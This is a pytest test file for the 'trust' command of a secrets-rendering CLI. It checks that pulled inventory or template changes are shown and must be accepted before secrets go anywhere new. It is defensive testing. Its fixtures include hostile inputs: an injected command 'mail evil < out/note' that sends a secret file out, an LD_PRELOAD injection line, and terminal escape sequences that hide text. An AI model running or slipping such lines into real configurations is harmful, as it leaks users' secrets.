"""`trust`: what git pull brings cannot take a secret elsewhere before somebody on this machine has seen it."""

import json
import os
import shutil
import stat
from pathlib import Path

import pytest

from chronos_secrets.cli.session import Session
from chronos_secrets.settings import Flags
from tests.support.commands import Aviary, Done, Terminal, argv, snapshot

FURTHER = "the inventory reaches further than what was accepted on this machine"


class Untrusting(Aviary):
    """A project on a machine that has accepted nothing yet."""

    trusting = False

    @property
    def accepted(self) -> Path:
        return self.state / "reach.json"

    def on_terminal(self, *arguments: str | Path) -> Terminal:
        return Terminal(argv(*arguments), folder=self.folder)

    def render_on_terminal(self, *names: str) -> Terminal:
        return self.on_terminal("render", *names, "--password-file", self.password_file)


@pytest.fixture
def aviary(tmp_path: Path) -> Untrusting:
    return Untrusting(tmp_path)


@pytest.fixture
def trusting(aviary: Untrusting) -> Untrusting:
    """The same project, all of it accepted."""
    assert aviary.run("trust", "--yes").status == 0
    return aviary


def refused(done: Done, *sentences: str) -> None:
    assert done.status == 5
    assert done.err.startswith(f"error: {FURTHER}\n")
    assert [line for line in done.err.splitlines() if line.startswith("  +")] == [f"  + {each}" for each in sentences]
    assert "\nhint: chronos-secrets trust " in done.err


# --- a pushed change --------------------------------------------------------------------------------------------------

PUSHED = {
    "another place": ("path: out/note", "path: out/public", "destination note is {}/out/public, mode 0600"),
    "another host": (
        "note: {path: out/note",
        "note: {host: far, path: /note",
        "destination note is /note on far, mode 0600",
    ),
    "one more credential": (
        "uses: {cipher: cipher}}",
        "uses: {cipher: cipher, more: db}}",
        "destination note uses more = db",
    ),
    "a command": (
        "uses: {cipher: cipher}}",
        "uses: {cipher: cipher}, after: [[sh, -c, 'mail evil < out/note']]}",
        "destination note runs sh -c 'mail evil < out/note'",
    ),
    "another entry": (
        "entry: Database/Cipher",
        "entry: AWS/Other",
        "credential cipher is the entry 'AWS/Other' (passphrase Password)",
    ),
}


@pytest.mark.parametrize("change", PUSHED)
def test_a_pushed_change_is_shown_and_takes_nothing_along(trusting, change):
    old, new, told = PUSHED[change]
    trusting.edit(old, new)
    before = snapshot(trusting.root)
    done = trusting.run("render", locked=True)  # said before the password is asked for
    refused(done, *told.format(trusting.folder).splitlines())
    assert snapshot(trusting.root) == before


def test_a_pushed_line_of_a_template_is_shown(trusting):
    trusting.template.write_text(f"{trusting.template.read_text()}LD_PRELOAD=/tmp/x.so\n")
    refused(trusting.run("render"), "destination note writes LD_PRELOAD=/tmp/x.so")


def test_a_host_that_means_another_alias_is_shown_for_what_is_placed_there(trusting):
    there = "  there: {host: far, path: /there, dialect: sh, template: note.j2, uses: {cipher: cipher}}\n"
    trusting.inventory.write_text(trusting.inventory.read_text() + there)
    assert trusting.run("trust", "--yes").status == 0
    trusting.edit("ssh: far-away", "ssh: elsewhere")
    refused(trusting.run("render", "there"), "host far is elsewhere of ~/.ssh/config")
    assert trusting.run("render", "env").status == 0, "what the change has nothing to do with goes on"


def test_looking_needs_no_acceptance(aviary):
    """A change can be reviewed with --diff before it is accepted; nothing goes anywhere."""
    for option in ("--check", "--diff", "--dry-run"):
        assert aviary.run("render", option).status in (0, 1)
    assert not aviary.accepted.exists()


def test_what_goes_away_needs_nothing(trusting):
    trusting.edit("uses: {db: db, jira: jira, aws: aws}", "uses: {db: db}")
    trusting.edit("  note: {path: out/note, dialect: sh, template: note.j2, uses: {cipher: cipher}}\n", "")
    assert trusting.run("render").status == 0


def test_two_changes_accepted_one_after_the_other_do_not_add_up(trusting):
    """The place and the credentials of a destination are accepted together, or not at all."""
    trusting.edit("{path: out/note,", "{path: out/public,")
    trusting.edit("uses: {cipher: cipher}}", "uses: {cipher: jira}}")
    trusting.template.write_text("NOTE={{ cipher.token }}\n")
    assert trusting.run("trust", "--yes").status == 0
    trusting.edit("uses: {cipher: jira}}", "uses: {cipher: cipher}}")
    trusting.template.write_text("NOTE={{ cipher.passphrase }}\n")
    done = trusting.run("render", "note")
    refused(done, "destination note uses cipher = cipher", "destination note writes NOTE={{ cipher.passphrase }}")


# --- the first meeting ------------------------------------------------------------------------------------------------


def test_private_files_of_the_project_itself_are_rendered_without_a_question(aviary):
    done = aviary.run("render", "env", "note")
    assert (done.status, done.err) == (0, "")
    assert stat.S_IMODE(aviary.accepted.stat().st_mode) == 0o600
    aviary.edit("path: out/note", "path: out/public")
    refused(aviary.run("render", "note"), f"destination note is {aviary.folder}/out/public, mode 0600")


def test_what_was_harmless_at_the_first_meeting_is_accepted_for_later_commands(aviary):
    assert aviary.run("render", "env").status == 0
    assert aviary.run("render", "note").status == 0


def test_a_file_outside_of_the_project_is_asked_about_at_the_first_meeting(aviary):
    before = snapshot(aviary.root)
    done = aviary.run("render", "env", "key-file", locked=True)
    refused(
        done, f"destination key-file is {aviary.key_file}, mode 0600", "destination key-file is made of key.private_key"
    )
    assert snapshot(aviary.root) == before
    assert not aviary.accepted.exists()


def test_a_second_clone_with_the_same_name_is_asked_about(trusting):
    """It may be anybody's, and name the real vault."""
    clone = trusting.root / "clone"
    shutil.copytree(trusting.folder, clone)
    (clone / "inventory.yaml").write_text(trusting.inventory.read_text().replace("aviary.kdbx}", f"{trusting.vault}}}"))
    words = ("--inventory", clone / "inventory.yaml")
    refused_first = trusting.run(*words, "render", "env")
    assert refused_first.status == 5
    assert f"+ destination env is {clone}/out/.env, mode 0600" in refused_first.err
    assert trusting.run(*words, "trust", "--yes").status == 0
    assert trusting.run(*words, "render", "env").status == 0
    assert trusting.run("render", "env").status == 0, "the first one stays accepted"


# --- the question -----------------------------------------------------------------------------------------------------


def test_a_person_is_asked_once_and_the_files_are_written(aviary):
    terminal = aviary.render_on_terminal()
    terminal.expect("Accept this? [y/N]")
    assert f"+ destination key-file is {aviary.key_file}, mode 0600" in terminal.shown
    terminal.type("y\n")
    done = terminal.end()
    assert done.status == 0
    assert all(path.exists() for path in aviary.destinations)
    assert aviary.run("render").status == 0
    assert aviary.leaked(done.text) == []


@pytest.mark.parametrize("answer", ["n\n", "\n"])
def test_a_no_changes_nothing_and_is_asked_again(aviary, answer):
    before = snapshot(aviary.folder)
    for _ in range(2):
        terminal = aviary.render_on_terminal("key-file")
        terminal.expect("Accept this? [y/N]")
        terminal.type(answer)
        done = terminal.end()
        assert (done.status, "it was not accepted; nothing was changed" in done.out) == (5, True)
    assert snapshot(aviary.folder) == before
    assert not aviary.key_file.exists()


def test_what_was_shown_is_what_is_written_whatever_git_does_meanwhile(trusting):
    trusting.template.write_text("NOTE={{ cipher.passphrase }}\nMORE=shown\n")
    terminal = trusting.render_on_terminal("note")
    terminal.expect("Accept this? [y/N]")
    trusting.template.write_text("NOTE={{ cipher.passphrase }}\nMORE=hidden\n")
    terminal.type("y\n")
    assert terminal.end().status == 0
    assert "MORE='shown'" in trusting.note.read_text()
    refused(trusting.run("render", "note"), "destination note writes MORE=hidden")


def test_a_template_is_read_once_by_a_command(trusting):
    """What is accepted and what is written cannot be two texts."""
    session = Session(Flags(str(trusting.inventory)))
    row = session.inventory.destinations["note"]
    assert session.draft(row) is session.draft(row)


def test_a_line_cannot_hide_itself_from_the_terminal(trusting):
    trusting.template.write_text(f"{trusting.template.read_text()}MORE=evil\x1b[2K\x1b[1A\u202e\n")
    told = "destination note writes MORE=evil?[2K?[1A?"
    refused(trusting.run("render"), told)
    terminal = trusting.render_on_terminal()
    terminal.expect("Accept this? [y/N]")
    assert f"+ {told}" in terminal.shown
    terminal.type("n\n")
    terminal.end()
    assert f"+ {told}\n" in trusting.run("trust", "--yes").out


def test_an_acceptance_that_cannot_be_kept_is_said_and_counts_this_once(aviary):
    aviary.accepted.mkdir(parents=True)
    terminal = aviary.render_on_terminal("key-file")
    terminal.expect("Accept this? [y/N]")
    terminal.type("y\n")
    done = terminal.end()
    assert "this will be asked again: the state folder" in done.out
    assert (done.status, aviary.key_file.exists()) == (0, True)


# --- run --------------------------------------------------------------------------------------------------------------


def test_run_gives_a_program_nothing_that_a_pushed_change_took_from_elsewhere(trusting):
    trusting.edit("entry: Third-Party/Jira", "entry: AWS/Other")
    told = "credential jira is the entry 'AWS/Other' (token Password, username UserName, url URL)"
    for which in (("--with", "jira"), ("--destination", "env")):
        words = ("run", *which, "--password-file", trusting.password_file, "--", "env")
        done = trusting.run(*words)
        refused(done, told)
        assert trusting.leaked(done.text) == []


def test_run_with_a_credential_that_is_new_here_needs_no_question(trusting):
    trusting.edit("credentials:\n", 'credentials:\n  more: {kind: passphrase, title: More, entry: Database/Cipher, never: "a toy", fields: {passphrase: UserName}}\n')  # fmt: skip
    words = ("run", "--with", "more", "--password-file", trusting.password_file, "--", "true")
    assert not any(line.startswith("  +") for line in trusting.process(*words).err.splitlines())


# --- the command ------------------------------------------------------------------------------------------------------


def test_trust_shows_what_is_new_accepts_it_and_is_then_content(aviary):
    done = aviary.run("trust", "--yes")
    assert done.status == 0
    assert f"+ destination key-file is {aviary.key_file}, mode 0600\n" in done.out
    assert done.out.endswith("\naccepted\n")
    done = aviary.run("trust")
    assert (done.status, done.out) == (0, "nothing is new: all that the inventory reaches is accepted\n")
    assert aviary.run("render").status == 0


def test_trust_asks_on_a_terminal_and_refuses_where_there_is_none(aviary):
    done = aviary.run("trust")
    assert done.status == 5
    assert "--yes for scripts" in done.err
    terminal = aviary.on_terminal("trust")
    terminal.expect("Accept this? [y/N]")
    assert terminal.shown.count("+ destination key-file is made of ") == 1
    terminal.type("y\n")
    assert terminal.end().status == 0
    assert aviary.run("trust").status == 0


def test_trust_show_tells_accepted_from_new_and_accepts_nothing(aviary):
    done = aviary.run("trust", "--show")
    assert done.status == 1
    rows = [line.split(maxsplit=3) for line in done.out.splitlines()[1:]]
    assert {tuple(row[1:3]): row[0] for row in rows if row[0] in ("new", "accepted")} | {
        ("destination", "env"): "accepted",
        ("destination", "key-file"): "new",
        ("host", "far"): "new",
    } == {tuple(row[1:3]): row[0] for row in rows if row[0] in ("new", "accepted")}
    assert not aviary.accepted.exists()
    assert aviary.run("trust", "--yes").status == 0
    assert aviary.run("trust", "--show").status == 0


def test_trust_json_says_what_show_says(aviary):
    aviary.run("render", "env")
    told = json.loads(aviary.run("trust", "--json").out)
    assert told["version"] == 1
    states = {(row["subject"], row["state"]) for row in told["reach"]}
    assert {("destination env", "accepted"), ("destination ssh-config", "new")} <= states
    assert {"subject": "vault", "sentence": f"is {aviary.vault}", "state": "accepted"} in told["reach"]


def test_revoke_makes_everything_be_asked_about_again_even_what_is_harmless(trusting):
    assert trusting.run("trust", "--revoke").status == 0
    done = trusting.run("render", "env")
    assert done.status == 5
    assert f"+ destination env is {trusting.env}, mode 0600" in done.err


def test_who_accepted_when_is_in_the_history_and_no_value_is_anywhere(trusting):
    trusting.run("trust", "--revoke")
    told = trusting.run("history").out
    assert [line.split()[2] for line in told.splitlines() if " trust" in line] == ["trust", "trust-revoke"]
    trusting.run("trust", "--yes")
    trusting.run("render")
    assert trusting.leaked(trusting.accepted.read_bytes()) == []


def test_a_state_folder_that_cannot_be_written_is_said(aviary):
    aviary.accepted.mkdir(parents=True)
    done = aviary.run("trust", "--yes")
    assert done.status == 5
    assert f"the state folder {aviary.state} cannot be written: is a directory" in done.err


def test_a_wrong_inventory_and_a_broken_template_are_said_as_such(aviary):
    aviary.template.write_text("A={{ nobody.knows }}\n")
    done = aviary.run("trust", "--yes")
    assert (done.status, "note.j2:1" in done.err) == (3, True)
    os.unlink(aviary.inventory)
    assert aviary.run("trust").status == 3
